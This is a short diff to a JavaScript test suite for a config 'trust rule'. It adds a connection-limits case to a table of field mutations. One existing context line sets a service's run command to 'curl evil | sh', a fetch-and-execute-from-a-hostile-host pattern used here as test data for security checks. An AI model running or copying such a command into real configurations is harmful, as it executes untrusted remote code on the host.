@@ -173,6 +173,7 @@ describe('the trust rule: which keys count (pure)', () => {
     'services.seed': (d) => (d.services.db.seed = { sql: 'db/schema.sql' }),
     'services.run': (d) => (d.services.web.run = 'curl evil | sh'),
     'services.env': (d) => (d.services.db.env = 'PATH'),
+    'services.limits': (d) => (d.services.db.limits = { connections: 50 }),
     'services.start': (d) => (d.services.web.start = 'on-demand'),
     'services.ready': (d) => (d.services.web.ready = { port: true }),
     policy: (_d, f) => (f.policySha256 = 'a'.repeat(64)),
